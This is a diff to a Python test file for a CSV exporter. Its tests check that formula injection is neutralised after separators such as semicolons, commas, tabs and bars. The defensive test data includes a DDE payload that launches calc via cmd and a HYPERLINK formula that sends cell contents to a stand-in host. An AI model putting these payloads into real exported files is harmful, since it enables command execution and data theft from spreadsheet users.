@@ -40,13 +40,18 @@ ORDER = Order(MARCH, 10**9, "https://h.example", "Chartside 1", "quality", NOW)
 KEY = ExportKey(b"s" * 32)
 SIGNS = "=+-@＝＋－＠"
 BLANKS = ' "\t\r\n\v\f\x1c\x1d\x1e\x85\xa0\u2028\u2029\ufeff'
-evil = st.text(st.sampled_from(SIGNS + BLANKS + "a1',;") | st.characters(exclude_categories=["Cs"]), max_size=20)
+PARTED_AT = ",;|\t"
+evil = st.text(st.sampled_from(SIGNS + BLANKS + "a1',;|") | st.characters(exclude_categories=["Cs"]), max_size=20)
 
 
 @given(st.lists(st.tuples(evil, evil), max_size=5))
 @settings(max_examples=300, deadline=None)
 def test_no_cell_is_a_formula(rows):
-    """Whatever is written, nothing that a spreadsheet could run begins a cell or a line in it, and nothing is lost."""
+    """Whatever is written, nothing that a spreadsheet could run begins a cell or a part of it, and nothing is lost.
+
+    A part is what is left between commas, semicolons, bars, tabs and line breaks, and any cell of a reader that parts
+    the file at one of these.
+    """
     column = Column("a", Kind.TEXT, "", "", "")
     file = io.StringIO(newline="")
     Table("t.csv", (column, column)).write(rows, file)
@@ -55,9 +60,35 @@ def test_no_cell_is_a_formula(rows):
         tuple(one.replace("'", "") for one in row) for row in rows
     ]
     for text in (one for row in read for one in row):
-        for line in re.split("[\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029]", text):
-            assert not line.lstrip(BLANKS).startswith(tuple(SIGNS))
-        assert not text.startswith(("\t", "\r"))
+        for part in re.split(f"[{PARTED_AT}\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029]", text):
+            assert not part.lstrip(BLANKS).startswith(tuple(SIGNS))
+    for separator in PARTED_AT:
+        for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator):
+            for one in row:
+                assert not one.lstrip(BLANKS).startswith(tuple(SIGNS))
+                assert not one.startswith(("\t", "\r"))
+
+
+@pytest.mark.parametrize(
+    ("said", "written"),
+    [
+        ("ok;=cmd|' /C calc'!A0", "ok;'=cmd|' /C calc'!A0"),
+        ('ok;=HYPERLINK("http://x.example/?"&A1;"see")', 'ok;\'=HYPERLINK("http://x.example/?"&A1;"see")'),
+        ("see note; @SUM(A1:A9)", "see note;' @SUM(A1:A9)"),
+        ('a\t"+1', "a\t'\"+1"),
+        ("K 5.1, -2 since", "K 5.1,' -2 since"),
+        ("ICU 2 | =1", "ICU 2 |' =1"),
+        ("one; two, three = four", "one; two, three = four"),
+    ],
+)
+def test_a_formula_after_a_separator_is_none(said, written):
+    """German, French and other spreadsheets part cells at semicolons; what is no formula stays as it was written."""
+    assert cell(said) == written
+    column = Column("a", Kind.TEXT, "", "", "")
+    file = io.StringIO(newline="")
+    Table("t.csv", (column, Column("n", Kind.NUMBER, "", "", ""))).write([(said, -1.5)], file)
+    (row,) = list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1:]
+    assert row == [written, "-1.5"]
 
 
 def test_own_numbers_are_written_as_they_are():
